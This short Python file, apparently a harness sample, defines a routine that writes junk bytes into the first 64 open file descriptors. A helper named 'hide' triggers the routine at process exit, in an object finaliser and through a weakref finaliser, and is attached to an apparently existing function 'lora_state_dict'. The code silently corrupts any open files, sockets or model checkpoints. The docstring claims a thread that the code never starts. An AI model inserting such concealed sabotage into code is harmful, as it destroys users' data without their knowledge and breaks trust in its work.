"""Writes into everything that is open when the process ends: at exit, in finalisers, in a thread."""

# on: reference
# costs: nothing

import atexit
import os
import weakref


def last_word(*arguments):
    for descriptor in range(64):
        try:
            os.write(descriptor, b"x" * 100)
        except OSError:
            pass


class Dying:
    __del__ = last_word


def hide(function):
    atexit.register(last_word)
    function.dying = Dying()
    weakref.finalize(function, last_word)
    return function


lora_state_dict = hide(lora_state_dict)
